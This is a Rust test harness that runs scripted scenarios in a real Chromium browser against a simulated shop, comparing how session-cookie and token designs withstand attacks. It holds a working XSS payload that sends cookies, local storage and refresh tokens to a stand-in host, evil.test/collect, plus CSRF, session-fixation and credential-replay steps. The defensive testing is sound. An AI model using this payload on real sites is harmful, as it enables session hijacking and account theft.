//! A script in a real Chromium that talks to a real shop.

use crate::design::{Design, Whom};
use crate::loopback::Loopback;
use crate::outsider::Outsider;
use crate::scripts::Script;
use crate::session::SessionShop;
use crate::shop::{Shop, VICTIM, lock};
use crate::site::Site;
use crate::token::TokenShop;
use e2e::browser::Browser;
use serde_json::{Value, json};
use simulator::sim::LaneName;
use simulator::sim::scenario::action::Action;
use std::cell::RefCell;
use std::collections::BTreeSet;
use std::sync::Arc;
use std::time::{Duration, Instant};

/// Limit for each thing.
const PATIENCE: Duration = Duration::from_secs(20);

/// A running browser and the site that it talks to.
pub struct Real {
    browser: Browser,
    site: Site,
    servers: Loopback,
    runtime: tokio::runtime::Runtime,
    /// The windows beside the first that were opened, by name.
    windows: RefCell<BTreeSet<String>>,
}

/// One script while it runs.
struct Run<'a> {
    real: &'a Real,
    shop: Shop,
    design: Arc<dyn Design>,
    thief: Outsider,
    app: Outsider,
}

impl Real {
    /// Starts servers and a browser.
    ///
    /// # Errors
    /// A sentence that says what is missing.
    pub fn start() -> Result<Self, String> {
        let site = Site::default();
        let servers = Loopback::serve(site.router())?;
        let runtime = tokio::runtime::Builder::new_current_thread().build();
        Ok(Self {
            browser: Browser::start_shell_with(&servers.flags())?,
            site,
            servers,
            runtime: runtime.map_err(|fault| fault.to_string())?,
            windows: RefCell::default(),
        })
    }

    /// Runs a script in a shop of this design: for each step the answers that left.
    /// `times` says when steps begin, for scripts in which time matters.
    pub fn run(&self, script: &Script, lane: LaneName, times: &[Duration]) -> Vec<Vec<String>> {
        let shop = Shop::new(script.settings.clone());
        let design: Arc<dyn Design> = match lane {
            LaneName::Session => Arc::new(SessionShop::new(shop.clone())),
            LaneName::Jwt => Arc::new(TokenShop::new(shop.clone())),
            other => panic!("no real shop is built like {other:?}"),
        };
        self.site.open(Arc::clone(&design), &script.settings);
        self.empty();
        self.site.begin_step(false, false);
        let port = self.servers.http_port();
        let mut run = Run {
            real: self,
            shop,
            design,
            thief: Outsider::new(port),
            app: Outsider::new(port),
        };
        let began = Instant::now();
        let mut answers = Vec::new();
        for (index, step) in script.steps.iter().enumerate() {
            if script.timed
                && let Some(at) = times.get(index)
            {
                std::thread::sleep(at.saturating_sub(began.elapsed()));
            }
            answers.push(run.step(step));
        }
        answers
    }

    /// One window with the shop's page, no cookie and nothing stored.
    fn empty(&self) {
        let close = "for (const name of arguments[0]) window.open('', name)?.close()";
        let windows = self.windows.take();
        if !windows.is_empty() {
            self.browser.script(close, vec![json!(windows)]);
        }
        self.browser
            .devtools("Network.clearBrowserCookies", json!({}));
        let storage = json!({ "origin": "https://shop.test", "storageTypes": "local_storage" });
        self.browser.devtools("Storage.clearDataForOrigin", storage);
        let before = self.loaded("window");
        self.browser.go("https://shop.test/?quiet");
        self.until("the first page", || {
            let now = self.loaded("window");
            now.is_some() && now != before
        });
    }

    /// Which load of the page a window shows, once its script is there.
    fn loaded(&self, window: &str) -> Option<u64> {
        let script = format!("return ({window})?.shop?.load");
        self.browser.try_script(&script, vec![]).ok()?.as_u64()
    }

    fn until(&self, what: &str, mut done: impl FnMut() -> bool) {
        let deadline = Instant::now() + PATIENCE;
        while !done() {
            assert!(
                Instant::now() < deadline,
                "The browser did not get to {what}."
            );
            std::thread::sleep(Duration::from_millis(4));
        }
    }

    /// Has windows do something at once, and waits until all of it is done.
    fn act(&self, what: &[String]) {
        let script = format!(
            "const done = arguments[0]; Promise.allSettled([{}]).then(() => done())",
            what.join(", ")
        );
        self.browser.script_later(&script, vec![]);
    }

    fn open_window(&self, url: &str, name: &str) {
        self.windows.borrow_mut().insert(name.to_owned());
        let script = "window.open(arguments[0], arguments[1])";
        self.browser.script(script, vec![json!(url), json!(name)]);
    }

    /// Opens a page of the attacker, which says when it has done what it does.
    fn open_attackers(&self, url: &str) {
        self.windows.borrow_mut().insert("attacker".to_owned());
        let script = "const [url, done] = arguments; window.open(url, 'attacker'); \
            addEventListener('message', () => done(), { once: true })";
        self.browser.script_later(script, vec![json!(url)]);
    }

    /// Opens an address whose last page belongs to the shop and so says nothing.
    fn open(&self, url: &str, window: &str) {
        let before = self.site.log().len();
        self.open_window(url, window);
        self.until(url, || self.site.log().len() > before);
        // The answer has left; the browser takes a moment to store its cookies.
        std::thread::sleep(Duration::from_millis(30));
    }
}

/// The window of a tab, as an expression.
fn tab(number: u8) -> String {
    match number {
        1 => "window".into(),
        _ => format!("window.open('', '{}')", tab_name(number)),
    }
}

fn tab_name(number: u8) -> String {
    format!("tab{number}")
}

/// What the page of a tab does, as an expression; none for what is no page's doing.
fn in_page(action: Action) -> Option<String> {
    let call =
        |n: u8, method: &str, url: &str| format!("{}.shop.call('{method}', '{url}')", tab(n));
    Some(match action {
        Action::LogIn { tab: n } => format!("{}.shop.logIn(true)", tab(n)),
        Action::LogInBadPassword { tab: n } => format!("{}.shop.logIn(false)", tab(n)),
        Action::Read { tab: n } => call(n, "GET", "/api/me"),
        Action::Write { tab: n } => call(n, "POST", "/api/notes"),
        Action::Privileged { tab: n } => call(n, "DELETE", "/api/users/mallory"),
        Action::LogOut { tab: n } => format!("{}.shop.logOut()", tab(n)),
        Action::LogOutEverywhere { tab: n } => call(n, "POST", "/logout-everywhere"),
        Action::Refresh {
            tab: n,
            lose_response,
        } => format!("{}.shop.refresh({lose_response})", tab(n)),
        Action::CrossSiteCall { tab: n } => call(n, "GET", "https://api.partner.test/orders"),
        Action::IssueLink => call(1, "POST", "/link"),
        Action::XssRide { tab: n } => format!("{}.shop.compose('POST', '/api/notes')", tab(n)),
        Action::XssRead { tab: 1 } => INJECTED.into(),
        _ => return None,
    })
}

/// The attacker's script. It uses none of the page's functions, only its settings; where the
/// page could request a token, this can too.
const INJECTED: &str = "(async () => {
    let asked = {};
    if (usesTokens && config.renews && config.refresh === 'cookie' && config.access !== 'cookie') {
        const body = new URLSearchParams({ grant_type: 'refresh_token', client_id: 'shop-web' });
        const answer = await fetch('/token', { method: 'POST', body });
        if (answer.ok) asked = await answer.json();
    }
    await fetch('https://evil.test/collect', {
        method: 'POST', mode: 'no-cors', credentials: 'omit',
        body: JSON.stringify({ cookie: document.cookie, stored: { ...localStorage, ...asked } }),
    });
})()";

impl Run<'_> {
    fn step(&mut self, actions: &[Action]) -> Vec<String> {
        let loses = actions
            .iter()
            .any(|action| action.arguments().lose_response);
        self.real.site.begin_step(actions.len() > 1, loses);
        let pages: Vec<String> = actions
            .iter()
            .filter_map(|action| in_page(*action))
            .collect();
        if pages.is_empty() {
            actions.iter().for_each(|action| self.act(*action));
        } else {
            assert_eq!(pages.len(), actions.len(), "pages act at once, or nobody");
            self.real.act(&pages);
        }
        if matches!(actions, [Action::XssRead { .. }]) {
            self.collect();
        }
        self.real.site.log()
    }

    /// Does what no page does.
    fn act(&mut self, action: Action) {
        let site = &self.real.site;
        match action {
            Action::Advance { .. } => {}
            Action::OpenTab { tab } | Action::Reload { tab } => self.load(tab),
            Action::UseLink => {
                let token = lock(&self.shop.mail).clone().expect("a mail");
                let url = format!("https://shop.test/link?token={token}");
                self.real.open(&url, "mail");
            }
            Action::CsrfForm => self.real.open("https://evil.test/form", "attacker"),
            Action::CsrfImage => self.real.open_attackers("https://evil.test/image"),
            Action::CsrfFetch => self.real.open_attackers("https://evil.test/fetch"),
            Action::Steal { tab } => self.steal(tab),
            Action::Replay if self.thief.credentials.is_empty() => {}
            Action::Replay => self.thief.read(),
            Action::ReplayRefresh => self.thief.refresh(),
            Action::Forge { forgery } => {
                let cookie = self.shop.cookie_name("sid");
                self.thief.forge(forgery, &*self.design, &cookie);
            }
            Action::Fixate => self.fixate(),
            Action::AppLogIn => self.app.app_logs_in(),
            Action::AppRead => self.app.read(),
            Action::RevokeSession => {
                let login = self.design.login().expect("a login");
                self.end(Whom::Login(login));
            }
            Action::DisableUser => {
                self.shop.change(|user| user.disabled = true);
                self.end(Whom::User(VICTIM.0.into()));
            }
            Action::EnableUser => self.shop.change(|user| user.disabled = false),
            Action::ChangeRole { role } => self.shop.change(|user| user.role = role),
            Action::CrashNode { node } => site.switch(node, false),
            Action::RestartNode { node } => site.switch(node, true),
            Action::StoreDown => self.design.reach_store(false),
            Action::StoreUp => self.design.reach_store(true),
            other => panic!("{other:?} is not part of this test"),
        }
    }

    fn end(&self, whom: Whom) {
        self.real.runtime.block_on(self.design.end(whom));
    }

    /// Loads the page of a tab, and waits for what its script does first.
    fn load(&self, number: u8) {
        let window = tab(number);
        let before = if number == 1 || self.real.windows.borrow().contains(&tab_name(number)) {
            self.real.loaded(&window)
        } else {
            None
        };
        if before.is_some() {
            let script = format!("{window}.location.reload()");
            self.real.browser.script(&script, vec![]);
        } else {
            self.real.open_window("/", &tab_name(number));
        }
        let is_down = || self.real.site.log() == ["GET shop.test/ 503"];
        self.real.until("the page", || {
            let now = self.real.loaded(&window);
            is_down() || (now.is_some() && now != before)
        });
        if !is_down() {
            self.real.act(&[format!("{window}.shop.ready")]);
        }
    }

    /// Copies what the browser holds for the shop.
    fn steal(&mut self, number: u8) {
        let browser = &self.real.browser;
        let said = browser.devtools("Storage.getCookies", json!({}));
        let cookies = said["cookies"].as_array().cloned().unwrap_or_default();
        let text =
            |cookie: &Value, name: &str| cookie[name].as_str().unwrap_or_default().to_owned();
        let pairs: Vec<String> = cookies
            .iter()
            .filter(|cookie| text(cookie, "domain").ends_with("shop.test"))
            .map(|cookie| format!("{}={}", text(cookie, "name"), text(cookie, "value")))
            .collect();
        if !pairs.is_empty() {
            self.thief.put("Cookie", pairs.join("; "));
        }
        let script = format!("return {}.shop.tokens()", tab(number));
        let tokens = browser.script(&script, vec![]);
        self.take(tokens["access"].as_str(), tokens["refresh"].as_str());
    }

    /// What the injected script has sent.
    fn collect(&mut self) {
        let sent: Value = serde_json::from_str(&self.real.site.collected()).unwrap_or_default();
        let cookie = sent["cookie"].as_str().filter(|line| !line.is_empty());
        if let Some(line) = cookie {
            self.thief.put("Cookie", line.to_owned());
        }
        let stored = &sent["stored"];
        self.take(
            stored["access_token"].as_str(),
            stored["refresh_token"].as_str(),
        );
    }

    fn take(&mut self, access: Option<&str>, refresh: Option<&str>) {
        if let Some(token) = access {
            self.thief.put("Authorization", format!("Bearer {token}"));
        }
        self.thief.refresh_token = refresh
            .map(str::to_owned)
            .or(self.thief.refresh_token.take());
    }

    /// Gets a session ID and plants it from a sub-domain of the shop.
    fn fixate(&mut self) {
        if let Some(cookie) = self.thief.start().cookies() {
            let line = format!("{cookie}; Domain=shop.test; Path=/; Secure");
            self.thief.put("Cookie", cookie);
            self.real.site.plant(line);
            self.real.open_attackers("https://blog.shop.test/article");
        }
    }
}
